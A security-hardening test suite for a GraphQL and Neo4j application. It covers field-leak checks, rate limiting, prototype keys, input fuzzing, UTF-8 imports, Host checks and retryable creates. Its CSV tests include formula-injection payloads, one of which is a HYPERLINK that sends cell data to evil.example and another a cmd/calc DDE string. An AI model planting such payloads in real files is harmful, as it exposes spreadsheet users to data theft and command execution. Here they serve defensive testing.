/**
 * Issue 16, the defects an outside attack and fault test found, each reproduced through the real
 * app (yoga.fetch) over the real Neo4j and kept fixed: restricted fields leaking through history and
 * saved appraisals (3), rate-limit keying, eviction, Retry-After and proxies (4), prototype-named
 * keys (5), CSV formula injection (6), input errors answered as INTERNAL (8), invalid UTF-8 in JSON
 * imports (9), the Host check (11) and retryable creates (13). The streaming body limit, import
 * limits, supervision and backups have their own files (http-guards, import-limits, server-process).
 */
import { parse as parseCsv } from 'csv-parse/sync';
import { unzipSync, strFromU8 } from 'fflate';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { TokenStore } from '../server/src/auth/tokens.js';
import { createApp } from '../server/src/http/app.js';
import { RateLimiter } from '../server/src/http/guards.js';
import { buildSchema } from '../server/src/graphql/schema.js';
import { escapeFormula, readCsv, unescapeFormula } from '../server/src/interop/tabular/csv.js';
import { gql, postFile, TEST_HOSTS, testApp, testDb } from './setup/db.js';

const db = testDb();
const yoga = testApp(db);
const store = new TokenStore(db);
const cli = { name: 'test-setup', role: 'admin' as const, tokenId: null };
const tokens: Record<string, string> = {};
const tokenIds: Record<string, string> = {};

beforeAll(async () => {
  await db.autoCommit('test/delete-test-nodes');
  await db.autoCommit('test/delete-test-tokens');
  for (const role of ['viewer', 'appraiser', 'editor', 'admin'] as const) {
    const { token, info } = await store.create(cli, { role, name: `test-hardening-${role}` });
    tokens[role] = token;
    tokenIds[role] = info.id;
  }
});
afterAll(async () => {
  await db.autoCommit('test/delete-test-nodes');
  await db.autoCommit('test/delete-test-tokens');
  await db.close();
});

const as = (role: keyof typeof tokens | 'anonymous') => ({ authorization: role === 'anonymous' ? '' : `Bearer ${tokens[role]}` });
const code = (r: { errors?: { extensions?: Record<string, unknown> }[] }) => r.errors?.[0]?.extensions?.code;
const CREATE = 'mutation($input: NodeInput!) { createNode(input: $input) { id } }';
const secret = (slug: string, level = 4) => ({
  id: `component:test-${slug}`,
  kind: 'Component',
  name: `Hệ thống mật ${slug}`,
  provenance: 'example',
  properties: { componentKind: 'system', level: 'province', securityLevel: level },
});

async function post(body: unknown, headers: Record<string, string> = {}, url = 'http://akb.test/graphql', app = yoga, serverContext?: object) {
  const res = await app.fetch(
    url,
    { method: 'POST', headers: { 'content-type': 'application/json', ...headers }, body: JSON.stringify(body) },
    serverContext as never,
  );
  return {
    status: res.status,
    headers: res.headers,
    json: (await res.json()) as { data?: Record<string, unknown> | null; errors?: { message: string; extensions?: Record<string, unknown> }[] },
  };
}

async function upload(content: Uint8Array | string, name: string, token: string, variables: Record<string, unknown> = {}) {
  const query =
    'mutation($file: File!, $dryRun: Boolean, $mode: ImportMode) { importData(file: $file, dryRun: $dryRun, mode: $mode) { written nodes { created rejected } items(onlyProblems: true) { key problems { column message messageVi } } } }';
  const res = await postFile(yoga, query, variables, { content, name }, `Bearer ${token}`);
  return {
    status: res.status,
    json: (await res.json()) as {
      data?: {
        importData: {
          written: boolean;
          nodes: { created: number; rejected: number };
          items: { key: string; problems: { column: string; message: string; messageVi: string }[] }[];
        };
      };
      errors?: { message: string; extensions?: Record<string, unknown> }[];
    },
  };
}

describe('16.3 restricted fields do not leak through other paths', () => {
  it('history(id) shows securityLevel in before/after only to appraisers and above', async () => {
    expect((await gql(yoga, CREATE, { input: secret('leak-history') }, as('editor'))).errors).toBeUndefined();
    expect(
      (await gql(yoga, 'mutation { updateNode(id: "component:test-leak-history", patch: { properties: { securityLevel: 5 } }) { id } }', {}, as('editor')))
        .errors,
    ).toBeUndefined();
    const q = '{ history(id: "component:test-leak-history") { operation before after } }';
    for (const who of ['anonymous', 'viewer'] as const) {
      const h = await gql<{ history: { operation: string; before: unknown; after: unknown }[] }>(yoga, q, {}, as(who));
      expect(
        h.data!.history.map((e) => e.operation),
        who,
      ).toEqual(['updateNode', 'createNode']);
      expect(JSON.stringify(h.data!.history), who).not.toContain('securityLevel');
      expect((h.data!.history[0].after as Record<string, unknown>).name, who).toBe('Hệ thống mật leak-history');
    }
    const appraiser = await gql<{ history: { before: Record<string, unknown>; after: Record<string, unknown> }[] }>(yoga, q, {}, as('appraiser'));
    expect(appraiser.data!.history[0].before.securityLevel).toBe(4);
    expect(appraiser.data!.history[0].after.securityLevel).toBe(5);
  });

  it('history(id) of a deleted node and of an import hides securityLevel below appraiser too', async () => {
    await gql(yoga, CREATE, { input: secret('leak-deleted') }, as('editor'));
    await gql(yoga, 'mutation { deleteNode(id: "component:test-leak-deleted") { id } }', {}, as('editor'));
    const file = JSON.stringify({
      nodes: [
        {
          ...secret('leak-history').properties,
          id: 'component:test-leak-history',
          kind: 'Component',
          name: 'Đổi tên qua nhập',
          provenance: 'example',
          securityLevel: 3,
        },
      ],
    });
    const imported = await upload(file, 'leak.json', tokens.editor, { dryRun: false });
    expect(imported.json.data?.importData.written).toBe(true);
    for (const id of ['component:test-leak-deleted', 'component:test-leak-history']) {
      const h = await gql<{ history: unknown[] }>(yoga, `{ history(id: "${id}") { operation before after } }`, {}, as('anonymous'));
      expect(h.data!.history.length, id).toBeGreaterThan(0);
      expect(JSON.stringify(h.data!.history), id).not.toContain('securityLevel');
    }
    const admin = await gql<{ history: { operation: string; before: Record<string, Record<string, unknown>> }[] }>(
      yoga,
      '{ history(id: "component:test-leak-history") { operation before } }',
      {},
      as('admin'),
    );
    expect(admin.data!.history[0].operation).toBe('importData');
    expect(admin.data!.history[0].before['component:test-leak-history'].securityLevel).toBe(5);
  });

  it('a saved appraisal’s proposal shows securityLevel only to appraisers and above (appraisals and appraisal(id))', async () => {
    expect(
      (
        await gql(
          yoga,
          'mutation { createNode(input: { id: "agency:test-leak-owner", kind: "Agency", name: "Cơ quan thử lộ", province: "Quảng Ngãi", provenance: example }) { id } }',
          {},
          as('editor'),
        )
      ).errors,
    ).toBeUndefined();
    const saved = await gql<{ appraise: { id: string } }>(
      yoga,
      'mutation { appraise(proposal: { name: "Đề xuất mật :test-", ownerAgency: "agency:test-leak-owner", hosting: { location: PROVINCIAL_DATACENTRE }, securityLevel: 3, offersDataSharing: true }, save: true) { id } }',
      {},
      as('appraiser'),
    );
    expect(saved.errors).toBeUndefined();
    const id = saved.data!.appraise.id;
    for (const who of ['anonymous', 'viewer'] as const) {
      const list = await gql<{ appraisals: { reports: { proposal: Record<string, unknown> }[] } }>(
        yoga,
        '{ appraisals(ownerAgency: "agency:test-leak-owner") { reports { proposal } } }',
        {},
        as(who),
      );
      expect(list.data!.appraisals.reports[0].proposal.name, who).toBe('Đề xuất mật :test-');
      expect(list.data!.appraisals.reports[0].proposal, who).not.toHaveProperty('securityLevel');
      const one = await gql<{ appraisal: { proposal: Record<string, unknown> } }>(yoga, `{ appraisal(id: "${id}") { proposal } }`, {}, as(who));
      expect(one.data!.appraisal.proposal, who).not.toHaveProperty('securityLevel');
    }
    const appraiser = await gql<{ appraisal: { proposal: Record<string, unknown> } }>(yoga, `{ appraisal(id: "${id}") { proposal } }`, {}, as('appraiser'));
    expect(appraiser.data!.appraisal.proposal.securityLevel).toBe(3);
  });

  it('history(id: "token:…") shows a token’s name and role to admins only', async () => {
    const q = `{ history(id: "${tokenIds.viewer}") { operation after } }`;
    for (const who of ['anonymous', 'viewer', 'appraiser', 'editor'] as const) {
      const h = await gql<{ history: unknown[] }>(yoga, q, {}, as(who));
      expect(h.data!.history, who).toEqual([]);
    }
    const admin = await gql<{ history: { operation: string; after: Record<string, unknown> }[] }>(yoga, q, {}, as('admin'));
    expect(admin.data!.history[0]).toMatchObject({ operation: 'createToken', after: { name: 'test-hardening-viewer', role: 'viewer' } });
  });
});

describe('16.4 the rate limit keys on the authenticated principal', () => {
  const limited = (requests: number, extra: Partial<Parameters<typeof createApp>[0]> = {}) =>
    createApp({ db, quiet: true, allowedHosts: TEST_HOSTS, rateLimit: { requests, windowMs: 60_000 }, ...extra });
  const QUERY = { query: '{ __typename }' };

  it('"Bearer T", "bearer T", "BEARER T" and "Bearer  T" share one quota; the 429 says when to retry', async () => {
    const app = limited(3);
    const t = tokens.viewer;
    for (const h of [`Bearer ${t}`, `bearer ${t}`, `BEARER ${t}`]) expect((await post(QUERY, { authorization: h }, undefined, app)).status).toBe(200);
    const refused = await post(QUERY, { authorization: `Bearer  ${t}` }, undefined, app);
    expect(refused.status).toBe(429);
    expect(refused.json.errors?.[0].extensions?.code).toBe('RATE_LIMITED');
    const retry = Number(refused.headers.get('retry-after'));
    expect(retry).toBeGreaterThanOrEqual(1);
    expect(retry).toBeLessThanOrEqual(60);
    // Another principal has its own quota.
    expect((await post(QUERY, { authorization: `Bearer ${tokens.appraiser}` }, undefined, app)).status).toBe(200);
  });

  it('a flood of junk headers does not clear the limiter nor unblock a blocked token', async () => {
    const app = limited(2, { rateLimit: { requests: 2, windowMs: 60_000, maxKeys: 100 } });
    const t = `Bearer ${tokens.editor}`;
    await post(QUERY, { authorization: t }, undefined, app);
    await post(QUERY, { authorization: t }, undefined, app);
    expect((await post(QUERY, { authorization: t }, undefined, app)).status).toBe(429);
    // 300 junk tokens from 300 addresses behind no proxy: each an anonymous caller of its own.
    for (let i = 0; i < 300; i++)
      await post(QUERY, { authorization: `Bearer akb_junk${i}` }, undefined, app, { req: { socket: { remoteAddress: `198.51.100.${i % 250}` } } });
    expect((await post(QUERY, { authorization: t }, undefined, app)).status).toBe(429);
  });

  it('RateLimiter evicts the least recently used keys, never the one being refused', () => {
    const limiter = new RateLimiter(5, 60_000, 1_000);
    for (let i = 0; i < 6; i++) limiter.take('attacker', 1_000);
    expect(limiter.take('attacker', 1_001)).toBeGreaterThan(0);
    for (let i = 0; i < 50_001; i++) {
      limiter.take(`junk-${i}`, 1_002);
      if (i % 500 === 0) expect(limiter.take('attacker', 1_002)).toBeGreaterThan(0);
    }
    expect(limiter.size).toBeLessThanOrEqual(1_000 + 1); // the counting keys, plus the one refused
    expect(limiter.take('attacker', 1_003)).toBeGreaterThan(0);
    expect(limiter.take('attacker', 61_001)).toBe(0); // a new window
  });

  it('behind a configured trusted proxy each client has its own quota; X-Forwarded-For from anyone else is ignored', async () => {
    const app = limited(2, { trustedProxies: ['10.0.0.0/8'] });
    const viaProxy = (client: string) => post(QUERY, { 'x-forwarded-for': client }, undefined, app, { req: { socket: { remoteAddress: '10.1.2.3' } } });
    expect((await viaProxy('203.0.113.5')).status).toBe(200);
    expect((await viaProxy('203.0.113.5')).status).toBe(200);
    expect((await viaProxy('203.0.113.5')).status).toBe(429);
    expect((await viaProxy('203.0.113.6')).status).toBe(200);
    // A client forging the header before the proxy appends its address gains nothing.
    expect((await viaProxy('1.2.3.4, 203.0.113.5')).status).toBe(429);
    const direct = (forged: string) => post(QUERY, { 'x-forwarded-for': forged }, undefined, app, { req: { socket: { remoteAddress: '192.0.2.7' } } });
    expect((await direct('203.0.113.10')).status).toBe(200);
    expect((await direct('203.0.113.11')).status).toBe(200);
    expect((await direct('203.0.113.12')).status).toBe(429);
    // One IPv6 subscriber (a /64) is one client, whichever of its addresses it uses.
    const v6 = (a: string) => post(QUERY, {}, undefined, app, { req: { socket: { remoteAddress: a } } });
    expect((await v6('2001:db8:1:2::1')).status).toBe(200);
    expect((await v6('2001:db8:1:2:ffff::9')).status).toBe(200);
    expect((await v6('2001:0db8:0001:0002:1234:5678:9abc:def0')).status).toBe(429);
    expect((await v6('2001:db8:1:3::1')).status).toBe(200);
  });
});

describe('the cache of recently seen tokens never outlives a revocation', () => {
  it('a token used a moment ago is refused right after revokeToken, and after TokenStore.revoke', async () => {
    for (const via of ['mutation', 'store'] as const) {
      const { token, info } = await store.create(cli, { role: 'viewer', name: `test-hardening-revoke-${via}` });
      const use = () => post({ query: '{ stats { nodes } }' }, { authorization: `Bearer ${token}` });
      expect((await use()).status).toBe(200);
      expect((await use()).status).toBe(200);
      if (via === 'mutation') expect((await gql(yoga, `mutation { revokeToken(id: "${info.id}") }`, {}, as('admin'))).errors).toBeUndefined();
      else await store.revoke(cli, info.id);
      const refused = await use();
      expect(refused.status, via).toBe(401);
      expect(refused.json.errors?.[0].extensions?.code, via).toBe('UNAUTHENTICATED');
    }
  });
});

describe('16.5 prototype-named keys are not properties', () => {
  const NAMES = ['toString', 'valueOf', 'hasOwnProperty', 'constructor', '__proto__', 'isPrototypeOf'];

  it('an import with toString, valueOf, hasOwnProperty, constructor, __proto__ keys rejects each row and stores nothing', async () => {
    const nodes = NAMES.map((k, i) =>
      JSON.parse(
        `{"id": "component:test-proto-${i}", "kind": "Component", "name": "Nguyên mẫu ${i}", "componentKind": "system", "level": "province", "provenance": "example", ${JSON.stringify(k)}: "x"}`,
      ),
    );
    const r = await upload(JSON.stringify({ nodes }), 'proto.json', tokens.editor, { dryRun: false, mode: 'VALID_ROWS' });
    expect(r.json.errors).toBeUndefined();
    expect(r.json.data!.importData.nodes).toEqual({ created: 0, rejected: NAMES.length });
    for (const [i, k] of NAMES.entries()) {
      const item = r.json.data!.importData.items.find((x) => x.key === `component:test-proto-${i}`)!;
      expect(
        item.problems.map((p) => p.column),
        k,
      ).toContain(k);
      expect(item.problems.find((p) => p.column === k)!.message, k).toMatch(/is not a property of Component/);
    }
    expect((await db.read('graph/nodes-by-ids', { ids: NAMES.map((_, i) => `component:test-proto-${i}`) })).length).toBe(0);
  });

  it('createNode with such keys in properties is VALIDATION_FAILED, and /export csv and xlsx still answer 200', async () => {
    for (const k of NAMES) {
      const input = {
        id: 'component:test-proto-gql',
        kind: 'Component',
        name: 'Nguyên mẫu',
        provenance: 'example',
        properties: JSON.parse(`{"componentKind": "system", "level": "province", ${JSON.stringify(k)}: "x"}`),
      };
      expect(code(await gql(yoga, CREATE, { input }, as('editor'))), k).toBe('VALIDATION_FAILED');
    }
    for (const format of ['csv', 'xlsx', 'json']) {
      const res = await yoga.fetch(`http://akb.test/export?format=${format}`);
      expect(res.status, format).toBe(200);
    }
  });

  it('search(text: "constructor") and other prototype names are ordinary searches', async () => {
    for (const t of ['constructor', 'toString', '__proto__', 'hasOwnProperty', 'valueOf', 'constructor prototype']) {
      const r = await gql(yoga, 'query($t: String!) { search(text: $t) { node { id } } }', { t }, as('anonymous'));
      expect(r.errors, t).toBeUndefined();
    }
  });
});

describe('16.6 CSV exports escape formulas', () => {
  const PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"bấm")', "+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|x', '-2+3+cmd|x', "'=already quoted"];

  it('cells starting with = + - @ leave /export?format=csv behind an apostrophe, and import back exactly', async () => {
    for (const [i, name] of PAYLOADS.entries()) {
      const r = await gql(
        yoga,
        CREATE,
        {
          input: {
            id: `component:test-formula-${i}`,
            kind: 'Component',
            name,
            description: name,
            provenance: 'example',
            properties: { componentKind: 'system', level: 'province' },
          },
        },
        as('editor'),
      );
      expect(r.errors, name).toBeUndefined();
    }
    const res = await yoga.fetch('http://akb.test/export?format=csv&kind=Component');
    expect(res.status).toBe(200);
    const zip = new Uint8Array(await res.arrayBuffer());
    const cells = (parseCsv(strFromU8(unzipSync(zip)['Component.csv']), { bom: true, relax_column_count: true }) as string[][]).flat();
    for (const p of PAYLOADS) {
      // Both cells the payload begins (name, description) start with an apostrophe.
      expect(cells.filter((c) => c === `'${p}`).length, p).toBe(2);
      expect(
        cells.some((c) => c === p),
        p,
      ).toBe(false);
    }
    const batch = await readCsv(zip, 'export.zip');
    for (const [i, p] of PAYLOADS.entries()) {
      const row = batch.nodes.find((n) => n.record.id === `component:test-formula-${i}`)!;
      expect(row.record.name).toBe(p);
      expect(row.record.description).toBe(p);
    }
  });

  it('escaping then unescaping gives back any text', () => {
    fc.assert(fc.property(fc.string(), (s) => unescapeFormula(escapeFormula(s)) === s));
    fc.assert(fc.property(fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'"), fc.string(), (c, s) => !/^[=+\-@\t\r]/.test(escapeFormula(c + s))));
  });
});

describe('16.8 input errors are the caller’s, never INTERNAL', () => {
  it('appraisals(offset: 2147483647) and a crafted after cursor are refused as input errors', async () => {
    const big = await gql(yoga, '{ appraisals(offset: 2147483647) { totalCount } }', {}, as('anonymous'));
    expect(code(big)).toBe('VALIDATION_FAILED');
    expect(big.errors![0].message).toMatch(/offset/);
    for (const raw of ['o:9999999999999999999999', 'o:2147483647', 'o:-1', 'x', '']) {
      const after = Buffer.from(raw).toString('base64url') || 'Zm9v';
      const r = await gql(yoga, 'query($a: String) { components(first: 5, after: $a) { totalCount } }', { a: after }, as('anonymous'));
      expect(code(r), raw).toBe('VALIDATION_FAILED');
    }
  });

  it('a fuzz of wrongly typed variables for every argument of every root field answers BAD_USER_INPUT, never INTERNAL or 5xx', async () => {
    // Its own app: hundreds of requests in a few seconds are over the default rate limit.
    const app = createApp({ db, quiet: true, allowedHosts: TEST_HOSTS, rateLimit: { requests: 1_000_000, windowMs: 60_000 } });
    const schema = buildSchema();
    type T = { toString(): string; ofType?: T; getFields?: unknown; getTypes?: unknown; getValues?: () => { name: string }[] };
    type Field = { name: string; args: { name: string; type: T }[]; type: T };
    const named = (t: T): T => (t.ofType ? named(t.ofType) : t);
    const fieldsOf = (t: unknown) => Object.values((t as { getFields(): Record<string, Field> }).getFields());
    const roots = [
      ...fieldsOf(schema.getQueryType()).map((f) => ({ f, op: 'query' })),
      ...fieldsOf(schema.getMutationType()).map((f) => ({ f, op: 'mutation' })),
    ];
    const WRONG: Record<string, unknown[]> = {
      Int: ['abc', 1.5, true, { a: 1 }, [1, 2], 2 ** 40],
      Float: ['abc', true, { a: 1 }],
      Boolean: ['yes', 1, { a: 1 }],
      String: [{ a: 1 }, [1, 2], 12, true],
      ID: [{ a: 1 }, true, 1.5, [[1]]],
    };
    const OTHER = [{ a: 1 }, 'NOT_A_VALUE_OF_THIS_TYPE', 42, [true], 'constructor'];
    // A plausible value for the other required arguments, so the request reaches variable coercion.
    const plausible = (t: T): unknown => {
      const n = named(t);
      const name = n.toString();
      if (String(t).startsWith('[')) return [];
      if (name === 'ID') return 'component:test-none';
      if (name === 'String') return 'x';
      if (name === 'Int' || name === 'Float') return 1;
      if (name === 'Boolean') return false;
      if (n.getValues) return n.getValues()[0].name;
      return {};
    };
    let sent = 0;
    const internal: string[] = [];
    for (const { f, op } of roots) {
      const composite = !!(named(f.type).getFields || named(f.type).getTypes);
      for (const arg of f.args) {
        const others = f.args.filter((a) => a !== arg && String(a.type).endsWith('!'));
        const decl = [arg, ...others].map((a, i) => `$v${i}: ${a.type}`).join(', ');
        const call = [arg, ...others].map((a, i) => `${a.name}: $v${i}`).join(', ');
        const doc = `${op}(${decl}) { ${f.name}(${call}) ${composite ? '{ __typename }' : ''} }`;
        for (const value of WRONG[named(arg.type).toString()] ?? OTHER) {
          const variables = Object.fromEntries([[`v0`, value], ...others.map((a, i) => [`v${i + 1}`, plausible(a.type)])]);
          const r = await post({ query: doc, variables }, { authorization: `Bearer ${tokens.viewer}` }, undefined, app);
          sent++;
          for (const e of r.json.errors ?? []) if (e.extensions?.code === 'INTERNAL') internal.push(`${doc} ${JSON.stringify(value)} → ${e.message}`);
          expect(r.status, `${doc} ${JSON.stringify(value)}`).toBeLessThan(500);
          // GraphQL refused the value (BAD_USER_INPUT, naming the variable), or it was valid after all.
          for (const e of (r.json.errors ?? []).filter((e) => /^Variable "\$v0"/.test(e.message)))
            expect(e.extensions?.code, `${doc} ${JSON.stringify(value)}`).toBe('BAD_USER_INPUT');
        }
      }
    }
    expect(sent).toBeGreaterThan(200);
    expect(internal.slice(0, 5)).toEqual([]);
  }, 300_000);

  it('a missing required variable and a wrong nested input field are BAD_USER_INPUT saying what was wrong, also in production', async () => {
    const prod = testApp(db, true);
    const missing = await post({ query: 'query($t: String!) { search(text: $t) { node { id } } }' }, {}, undefined, prod);
    expect(missing.json.errors![0]).toMatchObject({ extensions: { code: 'BAD_USER_INPUT' } });
    expect(missing.json.errors![0].message).toMatch(/\$t.*String!.*not provided/);
    const nested = await post(
      {
        query: 'mutation($i: NodeInput!) { createNode(input: $i) { id } }',
        variables: { i: { id: 'component:test-x', kind: 3, name: 'x', provenance: 'example' } },
      },
      { authorization: `Bearer ${tokens.editor}` },
      undefined,
      prod,
    );
    expect(nested.status).toBeLessThan(500);
    expect(nested.json.errors![0].extensions?.code).toBe('BAD_USER_INPUT');
    expect(nested.json.errors![0].message).toMatch(/i\.kind.*String cannot represent/);
  });
});

describe('16.9 invalid UTF-8 in a JSON import is refused, as in CSV', () => {
  const good = (slug: string) => `{"nodes": [{"id": "component:test-utf8-${slug}", "kind": "Component", "name": "Tên `;
  const tail = `", "componentKind": "system", "level": "province", "provenance": "example"}]}`;

  it('a .json file with bytes that are not UTF-8 writes nothing and says so in both languages', async () => {
    const bytes = Buffer.concat([Buffer.from(good('json')), Buffer.from([0xc3, 0x28, 0xff]), Buffer.from(tail)]);
    const r = await upload(bytes, 'latin.json', tokens.editor, { dryRun: false });
    expect(r.json.errors).toBeUndefined();
    expect(r.json.data!.importData.written).toBe(false);
    const problems = r.json.data!.importData.items.flatMap((i) => i.problems);
    expect(problems[0].message).toMatch(/not UTF-8/);
    expect(problems[0].messageVi).toMatch(/không phải mã UTF-8/);
    expect((await db.read('graph/nodes-by-ids', { ids: ['component:test-utf8-json'] })).length).toBe(0);
  });

  it('an .ndjson line that is not UTF-8 is rejected where it is, never stored with U+FFFD', async () => {
    const line = (slug: string, name: Buffer) =>
      Buffer.concat([
        Buffer.from(`{"node": {"id": "component:test-utf8-${slug}", "kind": "Component", "name": "`),
        name,
        Buffer.from('", "componentKind": "system", "level": "province", "provenance": "example"}}\n'),
      ]);
    const bytes = Buffer.concat([line('ok', Buffer.from('Hợp lệ')), line('bad', Buffer.from([0x48, 0xe1, 0xbb]))]);
    const r = await upload(bytes, 'lines.ndjson', tokens.editor, { dryRun: false, mode: 'VALID_ROWS' });
    expect(r.json.errors).toBeUndefined();
    expect(r.json.data!.importData.nodes.created).toBe(1);
    const problems = r.json.data!.importData.items.flatMap((i) => i.problems);
    expect(problems.some((p) => /line 2: .*not UTF-8/.test(p.message))).toBe(true);
    const stored = await db.read('graph/nodes-by-ids', { ids: ['component:test-utf8-ok', 'component:test-utf8-bad'] });
    expect(stored.map((r) => (r.node as { name: string }).name)).toEqual(['Hợp lệ']);
  });
});

describe('16.11 only configured host names are served', () => {
  it('a forged Host is refused with 403 by default; loopback names are served', async () => {
    const app = createApp({ db, quiet: true });
    for (const url of [
      'http://evil.example/graphql',
      'http://evil.example:4000/',
      'http://127.0.0.1.evil.example/graphql',
      'http://localhost.evil.example/health',
    ]) {
      const res = await app.fetch(url, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ query: '{ stats { nodes } }' }),
      });
      expect(res.status, url).toBe(403);
      expect(((await res.json()) as { errors: { extensions: { code: string } }[] }).errors[0].extensions.code).toBe('HOST_NOT_ALLOWED');
    }
    for (const url of ['http://localhost:4000/graphql', 'http://127.0.0.1/graphql', 'http://[::1]:4000/graphql']) {
      const res = await app.fetch(url, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ query: '{ stats { nodes } }' }),
      });
      expect(res.status, url).toBe(200);
    }
    const forgedHeader = await app.fetch('http://localhost/graphql', {
      method: 'POST',
      headers: { 'content-type': 'application/json', host: 'evil.example' },
      body: JSON.stringify({ query: '{ stats { nodes } }' }),
    });
    expect(forgedHeader.status).toBe(403);
  });
});

describe('cheap searches stay fresh', () => {
  it('a search answered from memory is not reused after a write: the new node is found at once, the deleted one is gone', async () => {
    const q = 'query($t: String!) { search(text: $t) { node { id } } }';
    const ids = async () =>
      (await gql<{ search: { node: { id: string } }[] }>(yoga, q, { t: 'Hệ thống tìm nhanh thử' }, as('anonymous'))).data!.search.map((h) => h.node.id);
    expect(await ids()).not.toContain('component:test-cache');
    expect(await ids()).not.toContain('component:test-cache');
    await gql(yoga, CREATE, { input: { ...secret('cache', 1), name: 'Hệ thống tìm nhanh thử' } }, as('editor'));
    expect(await ids()).toContain('component:test-cache');
    await gql(yoga, 'mutation { deleteNode(id: "component:test-cache") { id } }', {}, as('editor'));
    expect(await ids()).not.toContain('component:test-cache');
  });
});

describe('16.13 creates are safely retryable', () => {
  it('createNode again with the same id and content succeeds without a second write; other content is CONFLICT', async () => {
    const input = secret('retry', 2);
    const first = await gql<{ createNode: { id: string } }>(yoga, CREATE, { input }, as('editor'));
    const again = await gql<{ createNode: { id: string } }>(yoga, CREATE, { input }, as('editor'));
    expect(first.errors).toBeUndefined();
    expect(again.errors).toBeUndefined();
    expect(again.data!.createNode.id).toBe(input.id);
    const h = await gql<{ history: { operation: string }[] }>(yoga, `{ history(id: "${input.id}") { operation } }`, {}, as('admin'));
    expect(h.data!.history.map((e) => e.operation)).toEqual(['createNode']);
    expect(code(await gql(yoga, CREATE, { input: { ...input, name: 'Khác' } }, as('editor')))).toBe('CONFLICT');
  });

  it('createRelationship again with the same key and properties succeeds; other properties are CONFLICT', async () => {
    await gql(yoga, CREATE, { input: secret('retry-to', 2) }, as('editor'));
    const REL = 'mutation($input: RelationshipInput!) { createRelationship(input: $input) { type } }';
    const input = { from: 'component:test-retry', type: 'CONNECTS_TO', to: 'component:test-retry-to', provenance: 'example', note: 'một lần' };
    expect((await gql(yoga, REL, { input }, as('editor'))).errors).toBeUndefined();
    expect((await gql(yoga, REL, { input }, as('editor'))).errors).toBeUndefined();
    expect(code(await gql(yoga, REL, { input: { ...input, note: 'khác' } }, as('editor')))).toBe('CONFLICT');
    const h = await gql<{ history: { operation: string }[] }>(yoga, '{ history(id: "component:test-retry-to") { operation } }', {}, as('admin'));
    expect(h.data!.history.filter((e) => e.operation === 'createRelationship')).toHaveLength(1);
  });
});
